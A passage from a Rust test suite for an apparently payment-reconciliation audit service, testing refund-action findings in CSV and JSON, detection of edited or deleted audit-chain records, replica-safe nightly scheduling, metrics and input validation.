        "{total:?}"
    );
    // Times in the tenant's zone, as a spreadsheet parses them.
    assert_eq!(&orphan[col("charge_created")], "2026-11-28T00:05:00-05:00");
    w.finish().await;
}

/// The audit's CSV as rows keyed by the header's names.
fn csv_rows(text: &str) -> Vec<BTreeMap<String, String>> {
    let mut rd = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = rd.headers().unwrap().iter().map(str::to_owned).collect();
    rd.records()
        .map(|r| {
            let r = r.unwrap();
            header
                .iter()
                .cloned()
                .zip(r.iter().map(str::to_owned))
                .collect()
        })
        .collect()
}

#[tokio::test]
async fn each_finding_says_what_to_do_with_which_charge_for_whom_beside_reckons_verdict() {
    let w = World::sqlite().await;
    let (t, source) = tenant_with_source(w.ledger.as_ref(), "acme").await;
    set_settings(w.ledger.as_ref(), t, Some(TZ), None)
        .await
        .unwrap();
    let h = START + 3600.0;
    let mut reclaimed = record("charge:v1:RCL-1", State::Succeeded, h + 300.0);
    reclaimed.attempts = 2;
    ingest(
        w.ledger.as_ref(),
        t,
        source,
        vec![
            // The worker died after the call, which went through twice: the shop's row
            // still says unknown, reckon's verdict is `duplicate`.
            record("charge:v1:ORD-54", State::Unknown, h),
            // Charged twice, the extra refunded as duplicate since.
            record("charge:v1:ORD-55", State::Succeeded, h + 100.0),
            // Charged twice by a provider that names no customer.
            record("charge:v1:ORD-56", State::Succeeded, h + 200.0),
            // Claimed twice, charged once: nothing at stake.
            reclaimed,
            // Recorded paid, never charged.
            record("charge:v1:ORD-58", State::Succeeded, h + 400.0),
        ],
    )
    .await;
    let demo = DemoState::new();
    let c = |id: &str, key: &str, amount: i64, at: f64| {
        let mut ch = charge(id, key, amount, "usd", at);
        ch.customer = Some(format!("cus_{}", key.rsplit('-').next().unwrap_or("x")));
        ch
    };
    demo.add(c("ch_54_a", "charge:v1:ORD-54", 5400, h + 1.0));
    demo.add(c("ch_54_b", "charge:v1:ORD-54", 5400, h + 20.0));
    demo.add(c("ch_55_a", "charge:v1:ORD-55", 3000, h + 101.0));
    let mut back = c("ch_55_b", "charge:v1:ORD-55", 3000, h + 120.0);
    back.refunds = vec![("re_55".into(), 3000, Some("duplicate".into()))];
    demo.add(back);
    for (id, at) in [("ch_56_a", h + 201.0), ("ch_56_b", h + 230.0)] {
        let mut nobody = c(id, "charge:v1:ORD-56", 1250, at);
        nobody.customer = None;
        demo.add(nobody);
    }
    demo.add(c("ch_57", "charge:v1:RCL-1", 14_400, h + 301.0));
    // Money the provider took for an order the shop has no record of.
    demo.add(c("ch_orphan", "charge:v1:ORD-59", 777, h + 500.0));
    let (base, server) = serve_loopback(demo).await.unwrap();
    add_provider(w.ledger.as_ref(), t, "demo", json!({ "base_url": base })).await;
    w.ledger
        .set_route(t, "shop", "charge", Some("pay"))
        .await
        .unwrap();
    // reckon's verdict on the unknown one (a person's here, as the reconciler's would be).
    let unknown = w
        .ledger
        .get_effect(t, "shop", "charge:v1:ORD-54")
        .await
        .unwrap()
        .unwrap()
        .effect;
    w.ledger
        .resolve_by_hand(
            t,
            unknown.id,
            reckon_ledger::NewResolution {
                outcome: reckon_ledger::Outcome::Duplicate,
                author: "user:finance@acme.test".into(),
                note: Some("two payments in the provider's dashboard".into()),
                evidence: json!({}),
            },
        )
        .await
        .unwrap();
    let run = run_audit(&ctx(w.ledger.clone()), t, &request(DAY), None)
        .await
        .unwrap();
    server.abort();
    assert_eq!(run.run.status, "complete", "{:?}", run.run.reason);
    let rows = csv_rows(&findings_csv(&run).unwrap());
    let row = |kind: &str, key: &str| {
        rows.iter()
            .find(|r| {
                r["kind"] == kind
                    && (r.get("effect_keys").is_some_and(|k| k == key)
                        || r.get("charge_ids").is_some_and(|k| k == key))
            })
            .unwrap_or_else(|| panic!("no {kind} row for {key}: {rows:#?}"))
    };
    let cell = |r: &BTreeMap<String, String>, name: &str| {
        r.get(name)
            .unwrap_or_else(|| panic!("no column {name:?}: {r:#?}"))
            .clone()
    };

    // The double charge: whom, which charge, how much, and the verdict beside the state.
    let dup = row("duplicate", "charge:v1:ORD-54");
    assert_eq!(
        cell(dup, "action"),
        "Refund ch_54_b (54.00 USD) to cus_54 (order ORD-54); keep ch_54_a (54.00 USD), \
         the payment the customer meant to make."
    );
    assert_eq!(cell(dup, "customer"), "cus_54");
    assert_eq!(cell(dup, "order"), "ORD-54");
    assert_eq!(cell(dup, "at_stake"), "charged twice: 54.00 USD extra");
    assert_eq!(cell(dup, "effect_states"), "unknown");
    assert_eq!(cell(dup, "effect_verdicts"), "duplicate");
    // Refunded since: nothing is to be refunded, and nothing is at stake.
    let refunded = row("duplicate", "charge:v1:ORD-55");
    assert_eq!(
        cell(refunded, "action"),
        "Nothing to refund: the extra charge ch_55_b was already refunded to cus_55 \
         (order ORD-55)."
    );
    assert_eq!(cell(refunded, "at_stake"), "");
    // No customer at the provider: the application's order names whom.
    let nobody = row("duplicate", "charge:v1:ORD-56");
    assert!(
        cell(nobody, "action")
            .starts_with("Refund ch_56_b (12.50 USD) to the customer of order ORD-56;"),
        "{nobody:#?}"
    );
    assert_eq!(cell(nobody, "customer"), "");
    // Claimed twice, charged once: nothing at stake, nothing to do.
    let reclaim = row("risky_reclaim", "charge:v1:RCL-1");
    assert_eq!(cell(reclaim, "at_stake"), "", "{reclaim:#?}");
    assert_eq!(
        cell(reclaim, "action"),
        "Nothing to do: order RCL-1 was tried 2 times but charged once, ch_57 (144.00 USD)."
    );
    let missing = row("missing", "charge:v1:ORD-58");
    assert!(
        cell(missing, "action")
            .starts_with("Check order ORD-58 in the shop before telling the customer"),
        "{missing:#?}"
    );
    let orphan = row("orphan", "ch_orphan");
    assert_eq!(
        cell(orphan, "action"),
        "Find the order ch_orphan (7.77 USD) paid for in the shop (the provider names order \
         ORD-59); if the shop has none, refund it to cus_59 (order ORD-59)."
    );
    assert_eq!(cell(orphan, "at_stake"), "charged, no order: 7.77 USD");

    // The run's JSON (the API's) carries the same: the action, whom, and the verdict.
    let f = run.run.findings.as_array().unwrap();
    let dup = f
        .iter()
        .find(|f| f["kind"] == "duplicate" && f["order"] == "ORD-54")
        .unwrap_or_else(|| panic!("{f:#?}"));
    assert_eq!(dup["customer"], "cus_54");
    assert!(
        dup["action"]
            .as_str()
            .unwrap()
            .starts_with("Refund ch_54_b")
    );
    assert_eq!(dup["effects"][0]["state"], "unknown");
    assert_eq!(dup["effects"][0]["verdict"], "duplicate");
    w.finish().await;
}

// The chain.

async fn verify_detects_an_edited_and_a_removed_run(w: World) {
    let (t, _) = planted_world(&w).await;
    let c = ctx(w.ledger.clone());
    let first = run_audit(&c, t, &request(DAY), None).await.unwrap();
    let second = run_audit(&c, t, &request("2026-11-27"), None)
        .await
        .unwrap();
    let third = run_audit(&c, t, &request(DAY), None).await.unwrap();
    assert_eq!((first.seq, second.seq, third.seq), (1, 2, 3));
    assert_eq!(second.prev_digest, first.digest);
    assert_eq!(verify(w.ledger.as_ref(), t).await.unwrap(), (3, vec![]));

    // Someone with database access hides a duplicate from the first run.
    w.raw(&format!(
        "UPDATE audit_run SET findings = '[]' WHERE id = {}",
        first.id
    ))
    .await;
    let (n, breaks) = verify(w.ledger.as_ref(), t).await.unwrap();
    assert_eq!(n, 3);
    assert_eq!(breaks.len(), 1, "{breaks:?}");
    assert_eq!(breaks[0].id, first.id);
    assert!(breaks[0].reason.contains("edited"), "{breaks:?}");

    // Recomputing the edited run's digest does not help: the next run names the old one.
    let fake = reckon_ledger::run_digest(t.get(), 1, "", &{
        let mut r = first.run.clone();
        r.findings = json!([]);
        r
    });
    w.raw(&format!(
        "UPDATE audit_run SET digest = '{fake}' WHERE id = {}",
        first.id
    ))
    .await;
    let (_, breaks) = verify(w.ledger.as_ref(), t).await.unwrap();
    assert_eq!(breaks.len(), 1, "{breaks:?}");
    assert_eq!(breaks[0].id, second.id, "{breaks:?}");

    // Removing a run breaks the sequence.
    w.raw(&format!("DELETE FROM audit_run WHERE id = {}", second.id))
        .await;
    let (n, breaks) = verify(w.ledger.as_ref(), t).await.unwrap();
    assert_eq!(n, 2);
    assert!(
        breaks
            .iter()
            .any(|b| b.id == third.id && b.reason.contains("removed"))
    );

    // A chain longer than the pages `verify` reads it in: every run after the removed one
    // is out of sequence, whichever page it is on, and an edit on the last page is found.
    let mut after_removed = vec![third.id];
    for _ in 0..40 {
        after_removed.push(run_audit(&c, t, &request(DAY), None).await.unwrap().id);
    }
    let last = *after_removed.last().unwrap();
    w.raw(&format!(
        "UPDATE audit_run SET counts = '{{}}' WHERE id = {last}"
    ))
    .await;
    let (n, breaks) = verify(w.ledger.as_ref(), t).await.unwrap();
    assert_eq!(n, 42);
    let with = |word: &str| -> Vec<i64> {
        let mut ids: Vec<i64> = breaks
            .iter()
            .filter(|b| b.reason.contains(word))
            .map(|b| b.id)
            .collect();
        ids.dedup();
        ids
    };
    assert_eq!(with("edited"), vec![last], "{breaks:?}");
    assert_eq!(with("removed"), after_removed, "{breaks:?}");
    let seqs: Vec<i64> = breaks.iter().map(|b| b.seq).collect();
    assert!(seqs.is_sorted(), "in chain order: {seqs:?}");
    w.finish().await;
}

#[tokio::test]
async fn verify_detects_an_edited_and_a_removed_run_on_sqlite() {
    verify_detects_an_edited_and_a_removed_run(World::sqlite().await).await;
}

#[tokio::test]
async fn verify_detects_an_edited_and_a_removed_run_on_postgres() {
    verify_detects_an_edited_and_a_removed_run(World::postgres().await).await;
}

// The schedule.

#[tokio::test]
async fn three_replicas_running_the_nightly_audit_at_once_store_one_run() {
    let w = World::postgres().await;
    let (t, _) = planted_world(&w).await;
    // Due from 00:00 local: yesterday's audit is due whenever the test runs.
    set_settings(w.ledger.as_ref(), t, None, Some("00:00"))
        .await
        .unwrap();
    let replicas = [w.replica().await, w.replica().await, w.replica().await];
    let ctxs: Vec<AuditCtx> = replicas
        .iter()
        .enumerate()
        .map(|(i, l)| {
            let mut c = ctx(l.clone());
            c.owner = format!("replica-{i}");
            c
        })
        .collect();
    let now = time::now();
    let (a, b, c) = tokio::join!(
        run_due(&ctxs[0], now),
        run_due(&ctxs[1], now),
        run_due(&ctxs[2], now)
    );
    let ran: usize = [a.unwrap(), b.unwrap(), c.unwrap()]
        .iter()
        .map(Vec::len)
        .sum();
    assert_eq!(ran, 1, "exactly one replica ran the day");
    let yesterday = reckon_audit::DayWindow::yesterday(now, TZ).unwrap().date;
    let runs = w
        .ledger
        .list_audit_runs(t, Some(&yesterday), 10)
        .await
        .unwrap();
    assert_eq!(runs.len(), 1, "{runs:?}");
    assert_eq!(runs[0].run.triggered_by, "schedule");
    assert_eq!(runs[0].run.status, "complete");
    // Later ticks on every replica find the day done.
    for c in &ctxs {
        assert!(run_due(c, time::now()).await.unwrap().is_empty());
    }
    assert_eq!(
        w.ledger
            .list_audit_runs(t, Some(&yesterday), 10)
            .await
            .unwrap()
            .len(),
        1
    );
    // And the ledger itself refuses a second completed scheduled run of the day.
    let mut again = runs[0].run.clone();
    again.finished_at += 1.0;
    let err = w.ledger.record_audit_run(t, again, None).await.unwrap_err();
    assert!(
        matches!(err, reckon_ledger::LedgerError::Conflict(_)),
        "{err}"
    );
    for r in replicas {
        drop(r);
    }
    w.finish().await;
}

#[tokio::test]
async fn the_nightly_audit_is_not_due_before_the_tenants_local_time() {
    let w = World::sqlite().await;
    let (t, _) = planted_world(&w).await;
    set_settings(w.ledger.as_ref(), t, Some("UTC"), Some("06:00"))
        .await
        .unwrap();
    // 05:59:59 UTC on 2026-11-29: not yet; 06:00:00: yesterday (2026-11-28) is due.
    let at_0600 = 1_795_910_400.0 + 6.0 * 3600.0;
    let c = ctx(w.ledger.clone());
    assert!(run_due(&c, at_0600 - 1.0).await.unwrap().is_empty());
    let done = run_due(&c, at_0600).await.unwrap();
    assert_eq!(done.len(), 1);
    assert_eq!(done[0].run.run.day, "2026-11-28");
    assert_eq!(done[0].run.run.time_zone, "UTC");
    w.finish().await;
}

#[tokio::test]
async fn the_nightly_runs_health_is_in_the_metrics_a_failure_and_a_day_not_complete() {
    let server = three_pages(wiremock::ResponseTemplate::new(503)).await;
    let (w, _) = failing_world(&server.uri()).await;
    // A tenant with nothing to audit: counters at zero, no schedule to be late for.
    tenant_with_source(w.ledger.as_ref(), "beta").await;
    let mut c = ctx(w.ledger.clone());
    let m = reckon_metrics::Metrics::new();
    c.metrics = Some(m.clone());
    // acme's audit time is 06:00 in New York, the morning after DAY; an hour later it is due.
    let due_at = END + 6.0 * 3600.0;
    let done = run_due(&c, due_at + 3600.0).await.unwrap();
    assert_eq!(done.len(), 1);
    assert_eq!(done[0].run.run.status, "failed");
    let text = m.text();
    for line in [
        // Counted under the provider whose part failed (the alert names it).
        "reckon_audit_runs_total{provider=\"pay\",status=\"failed\",tenant=\"acme\"} 1",
        "reckon_audit_runs_total{provider=\"*\",status=\"complete\",tenant=\"acme\"} 0",
        "reckon_audit_runs_total{provider=\"*\",status=\"failed\",tenant=\"beta\"} 0",
        &format!("reckon_audit_scheduled_timestamp_seconds{{tenant=\"acme\"}} {due_at}"),
        "reckon_audit_scheduled_day_complete{tenant=\"acme\"} 0",
    ] {
        assert!(text.contains(line), "{line} not in\n{text}");
    }
    assert!(
        !text.contains("reckon_audit_scheduled_day_complete{tenant=\"beta\"}"),
        "{text}"
    );
    // A minute later the failed day waits (the provider is given its retry wait)...
    assert!(run_due(&c, due_at + 3660.0).await.unwrap().is_empty());
    // ...and once the failure is older than the wait it is tried again. The run's
    // `finished_at` is the wall clock's, the tick's `now` is the test's: the wait is set to
    // end a second before this tick, on the wall clock.
    c.retry_failed_after_secs = due_at + 3660.0 - time::now() - 1.0;
    let again = run_due(&c, due_at + 3660.0).await.unwrap();
    assert_eq!(again.len(), 1);
    assert_eq!(again[0].run.run.status, "failed");
    w.finish().await;
}

/// The failed-audit state is the stored runs': a process that starts after a run failed
/// (its counters never saw it; another process ran it) says the provider's audit is failing
/// from its first publish, until a run reads the provider whole.
#[tokio::test]
async fn a_failed_audit_is_failing_for_a_process_started_after_it_until_a_run_reads_it_whole() {
    let server = three_pages(wiremock::ResponseTemplate::new(503)).await;
    let (w, t) = failing_world(&server.uri()).await;
    tenant_with_source(w.ledger.as_ref(), "beta").await;
    let run = run_audit(&ctx(w.ledger.clone()), t, &request(DAY), None)
        .await
        .unwrap();
    assert_eq!(run.run.status, "failed");
    let fresh = || async {
        let m = reckon_metrics::Metrics::new();
        reckon_engine::audit::publish_all(&m, w.ledger.as_ref(), time::now())
            .await
            .unwrap();
        m.text()
    };
    let text = fresh().await;
    for line in [
        "reckon_audit_failing{provider=\"pay\",tenant=\"acme\"} 1",
        // The run reached its provider: the nightly run as a whole did not fail to start.
        "reckon_audit_failing{provider=\"*\",tenant=\"acme\"} 0",
    ] {
        assert!(text.contains(line), "{line} not in\n{text}");
    }
    // A tenant with no provider has no audit to fail.
    assert!(
        !text.contains("reckon_audit_failing{provider=\"*\",tenant=\"beta\"}"),
        "{text}"
    );
    // The provider answers again; a run of the day reads it whole.
    server.reset().await;
    mount_three_pages(
        &server,
        wiremock::ResponseTemplate::new(200).set_body_json(page(&["c3"], None)),
    )
    .await;
    let run = run_audit(&ctx(w.ledger.clone()), t, &request(DAY), None)
        .await
        .unwrap();
    assert_eq!(run.run.status, "complete");
    let text = fresh().await;
    assert!(
        text.contains("reckon_audit_failing{provider=\"pay\",tenant=\"acme\"} 0"),
        "{text}"
    );
    w.finish().await;
}

#[tokio::test]
async fn a_completed_nightly_run_marks_its_day_complete() {
    let w = World::sqlite().await;
    let (t, _) = planted_world(&w).await;
    set_settings(w.ledger.as_ref(), t, Some("UTC"), Some("06:00"))
        .await
        .unwrap();
    let at_0600 = 1_795_910_400.0 + 6.0 * 3600.0;
    let mut c = ctx(w.ledger.clone());
    let m = reckon_metrics::Metrics::new();
    c.metrics = Some(m.clone());
    let done = run_due(&c, at_0600 + 60.0).await.unwrap();
    assert_eq!(done[0].run.run.status, "complete");
    let text = m.text();
    for line in [
        &format!("reckon_audit_scheduled_timestamp_seconds{{tenant=\"acme\"}} {at_0600}"),
        "reckon_audit_scheduled_day_complete{tenant=\"acme\"} 1",
        "reckon_audit_runs_total{provider=\"pay\",status=\"complete\",tenant=\"acme\"} 1",
    ] {
        assert!(text.contains(line), "{line} not in\n{text}");
    }
    w.finish().await;
}

#[tokio::test]
async fn bad_settings_and_dates_are_refused_with_a_clear_error() {
    let w = World::sqlite().await;
    let (t, _) = tenant_with_source(w.ledger.as_ref(), "acme").await;
    let e = set_settings(w.ledger.as_ref(), t, Some("Mars/Olympus"), None)
        .await
        .unwrap_err();
    assert!(e.to_string().contains("Mars/Olympus"), "{e}");
    let e = set_settings(w.ledger.as_ref(), t, None, Some("25:00"))
        .await
        .unwrap_err();
    assert!(e.to_string().contains("HH:MM"), "{e}");
    let e = run_audit(&ctx(w.ledger.clone()), t, &request("2026-02-30"), None)
        .await
        .unwrap_err();
    assert!(e.to_string().contains("2026-02-30"), "{e}");
    let mut req = request(DAY);
    req.provider = Some("nope".into());
    let e = run_audit(&ctx(w.ledger.clone()), t, &req, None)
        .await
        .unwrap_err();
    assert!(e.to_string().contains("nope"), "{e}");
    w.finish().await;
}
